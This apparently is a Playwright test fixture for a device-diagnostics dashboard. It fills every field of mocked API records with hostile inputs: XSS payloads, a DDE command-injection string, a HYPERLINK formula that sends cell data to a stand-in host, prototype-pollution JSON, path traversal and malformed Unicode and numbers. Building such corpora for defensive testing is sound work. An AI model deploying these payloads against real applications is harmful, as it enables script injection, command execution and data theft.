/** Data that would harm a careless client: every value of the corpus in every documented field. */
import type { Page } from "@playwright/test";

/** What the scripts of the corpus call, in vain. */
const CALL = "window.__executed()";

const text = JSON.stringify;
const repeated = (count: number, part: (index: number) => string) => Array.from({ length: count }, (_, index) => part(index)).join();
const characters = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index)).join("");

const TEXTS: Record<string, string> = {
  script: `<script>${CALL}</script>`, image: `"><img src=x onerror="${CALL}">`,
  svg: `</title></textarea><svg onload="${CALL}"><a xlink:href="javascript:${CALL}">x</a></svg>`,
  frame: `'><iframe srcdoc="<script>parent.${CALL}</script>"></iframe><base href="https://elsewhere.example/">`,
  style: `<style>*{display:none}</style><link rel=stylesheet href=//elsewhere.example/x.css>`,
  template: "{{constructor.constructor('window.__executed()')()}} ${window.__executed()} &lt;b&gt; %3Cb%3E",
  url: `javascript:${CALL}`, dataUrl: `data:text/html,<script>opener.${CALL}</script>`,
  elsewhere: "//elsewhere.example/x.js", path: "../../../%2e%2e/%00?q=1&entry=2#x",
  proto: "__proto__", constructor: "constructor",
  method: "hasOwnProperty", control: `begin ${characters(0, 31)}${characters(127, 159)} end`,
  bidi: `begin ${characters(0x202a, 0x202e)}${characters(0x2066, 0x2069)}${characters(0x200b, 0x200f)}\u061c\ufeff end`,
  marks: "Z\u0338\u0322\u0335\u0337\u0336\u0300\u0301\u0302\u0303".repeat(60),
  separators: "begin \u0085\u2028\u2029\u00a0\u3000\u1680 end", noncharacters: "begin \ufffe\uffff\ufffd\u{10ffff}\ue000 end",
  blank: "  \u3000\t ", formula: `=HYPERLINK("https://elsewhere.example/?"&A1,"x")`,
  plus: "+1+cmd|' /C calc'!A0", minus: "-2+3",
  at: "@SUM(1+1)", tab: "\t=1+1",
  return: "\r=1+1", wide: "＝1+1",
  cells: `a","b\r\n=1+1,"c;=1\t=1`, long: "W".repeat(1 << 20),
  nan: "NaN", infinity: "-Infinity",
  digits: "8".repeat(400), exponent: "1e1000",
  hexadecimal: "0x1F", lastDay: "9999-12-31T23:59:59-23:59",
  yearNought: "0000-01-01T00:00:00+23:59", noDay: "2024-02-30T25:61:61Z", farYear: "+275760-09-13T00:00:00.001Z",
};

/** What has to be written by hand, since no value of JavaScript is written so. */
const BARE: Record<string, string> = {
  highSurrogate: String.raw`"\ud800"`, lowSurrogate: String.raw`"a\udfffb"`,
  swappedSurrogates: String.raw`"\udc00\ud800"`, huge: "1.7976931348623157e308",
  tooHuge: "1e999", tooLow: "-1e999", tiny: "4.9e-324", negativeNought: "-0",
  integer: "9007199254740993", manyDigits: "9".repeat(400),
  manyDecimals: `0.${"3".repeat(400)}`, noDate: "8640000000000001",
  nothing: "null", truth: "true", list: "[]", object: "{}",
  inherited: `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":1,"":2,"a.b":3,"[]":4}`,
  mixed: `[null,1,"x",[["y"]],{"message":{"code":[]},"severity":[1],"code":{}}]`,
  keys: `{${repeated(10_000, (index) => `"key_${index}":${index}`)}}`, items: `[${repeated(10_000, (index) => `"item_${index}"`)}]`,
  deepList: `${"[".repeat(1_000)}${"]".repeat(1_000)}`, deepObject: `${`{"a":`.repeat(1_000)}1${"}".repeat(1_000)}`,
  twice: `{"code":"one","code":"two","message":1,"message":2}`,
};

/** The texts of the corpus. */
export const TEXT_VALUES = Object.values(TEXTS);

/** The corpus: names, and values as JSON. */
export const VALUES = Object.entries({ ...Object.fromEntries(Object.entries(TEXTS).map(([name, value]) => [name, text(value)])), ...BARE });

const at = new Date(Date.now() - 3_600_000).toISOString();
const envelope = { id: "", device_id: "", device_name: "Printer", device_serial: "S-1", created_at: at, updated_at: at };

/** The documented records of both revisions, with what Diagboard itself adds. */
const DOCUMENTED = {
  check: {
    ...envelope, diagnostic_type: "health_check", status: "warning", next_check_due: at,
    details: { cpu_usage: 45, memory_usage: 78, disk_space: 23, network_connectivity: "good", last_ping: at },
    issues: [{ severity: "medium", message: "Low disk space detected", code: "DISK_LOW" }],
  },
  work: {
    ...envelope, diagnostic_type: "maintenance", status: "completed", notes: "Done", performed_by: "tech@company.com",
    details: { action_performed: "firmware_update", previous_version: "1.2.3", new_version: "1.2.4", duration_minutes: 15 },
  },
  report: {
    ...envelope, diagnostic_type: "issue_report", status: "open", notes: "It stops", reported_by: "desk@company.com", priority: "high",
    details: {
      issue_category: "hardware", symptoms: ["slow_response"], error_codes: ["ERR_1"], impact_level: "medium",
      incident: "", event: "", client_ref: "",
    },
  },
  older: {
    id: "", device_id: "", device_name: "Server-01", status: "online", last_check: at, scheduled_transaction_id: "1",
    diagnostics: { cpu_usage: 45.2, memory_usage: 67.8, disk_usage: 23.1, network_status: "connected" }, alerts: ["one"],
  },
  scheduled: {
    id: "", device_id: "", device_name: "Server-01", diagnostic_type: "health_check", status: "scheduled", created_at: at,
    schedule_time: at, parameters: { check_cpu: true, check_memory: true, check_disk: true, check_network: true },
  },
};

type Json = Record<string, any>;
const HERE = "the value stands here";

/** The places of everything in a value. */
function places(value: unknown): string[][] {
  if (typeof value !== "object" || value === null) return [[]];
  const below = Object.entries(value).flatMap(([key, part]) => places(part).map((place) => [key, ...place]));
  return [[], ...below];
}

function put(record: Json, place: string[], value: string): Json {
  const copy = structuredClone(record);
  place.slice(0, -1).reduce((part, key) => part[key], copy)[place.at(-1)!] = value;
  return copy;
}

const withValue = (record: Json, value: string) => text(record).replaceAll(text(HERE), () => value);

function hostile(kind: string, record: Json, field: string[], name: string, value: string): string {
  const known = { ...record, id: `${kind}.${field.join(".")}.${name}`, device_id: `device-${name}` };
  return withValue(put(known, field, HERE), value);
}

/** Where what is very long is tried: one field of each way in which one is read and drawn; in all of them it would be 105 MB for each test. */
const LONG_IN = ["id", "device_id", "device_name", "status", "notes", "priority", "details", "details.cpu_usage", "issues", "issues.0.message"];

/** Each value in each field of each documented record; each device has the records of a value. */
export function everyField(): string[] {
  return Object.entries(DOCUMENTED).flatMap(([kind, record]) => {
    // Two entries with one id would be one entry.
    const fields = places(record).filter(([first]) => first !== undefined && (first !== "id" || kind === "check"));
    const tried = (field: string[]) => VALUES.filter(([, value]) => value.length <= 10_000 || LONG_IN.includes(field.join(".")));
    return fields.flatMap((field) => tried(field).map(([name, value]) => hostile(kind, record, field, name, value)));
  });
}

/** A device for each value: that is its id. */
export const everyDevice = () => VALUES.map(([name, value]) => hostile("check", DOCUMENTED.check, ["device_id"], name, value));

/** Ids and records to be opened: a value is in all fields that make no other entry of it, a long one in some of them. */
export function everyEntry(): [string, string][] {
  const { check, work, report } = DOCUMENTED;
  const whole = { ...check, ...work, ...report, details: { ...check.details, ...work.details, ...report.details } };
  const named = (id: string): Json => ({ ...whole, id, device_id: "device" });
  const isOwn = ([first]: string[]) => ["id", "device_id", "diagnostic_type"].includes(first);
  const fields = places(whole).filter((field) => !isOwn(field) && typeof field.reduce((part: any, key) => part[key], whole) !== "object");
  const some = [["status"], ["notes"], ["details"], ["details", "cpu_usage"], ["issues"], ["issues", "0", "message"]];
  const keys = Object.fromEntries(TEXT_VALUES.map((key, at) => [key, at]));
  const entries = VALUES.flatMap(([name, value]): [string, string][] => {
    const full = () => fields.reduce((record, field) => put(record, field, HERE), named(`all.${name}`));
    const one = (field: string[]) => put(named(`${field.join(".")}.${name}`), field, HERE);
    const records = value.length > 10_000 ? some.map(one) : [full()];
    return records.map((record) => [record.id, withValue(record, value)]);
  });
  return [...entries, ["keys", text({ ...named("keys"), details: keys, nested: keys })]];
}

/** Answers every reading of the API with these records, page by page. */
export async function answerWith(page: Page, records: string[]): Promise<void> {
  await page.route("**/inventory_device_diags/**", async (route) => {
    const asked = new URL(route.request().url()).searchParams;
    const offset = Number(asked.get("offset") ?? 0);
    const results = records.slice(offset, offset + Number(asked.get("limit")));
    await route.fulfill({ contentType: "application/json", body: `{"count":${records.length},"results":[${results}]}` });
  });
}
